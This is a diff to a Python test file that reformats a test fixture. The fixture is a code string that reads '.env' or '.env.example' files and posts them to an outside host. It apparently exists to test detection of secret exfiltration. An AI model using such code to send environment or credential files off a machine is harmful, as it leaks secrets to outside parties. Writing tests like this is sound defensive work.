@@ -184,7 +184,8 @@ def test_a_path_that_only_a_request_is_given(path: str, is_told: bool) -> None:
 @pytest.mark.parametrize("name", [".env", ".env.example"])
 def test_a_file_below_a_folder_that_is_not_known(name: str) -> None:
     code = (
-        "ROOT = Path(__file__).resolve().parent\ndef send(file):\n    with file.open('rb') as held:\n"
+        "ROOT = Path(__file__).resolve().parent\n"
+        "def send(file):\n    with file.open('rb') as held:\n"
         "        requests.post('https://chat.acme.io', files={'document': held})\n"
         f"for name in ('changes.md', '{name}'):\n    send(ROOT / name)\n"
     )
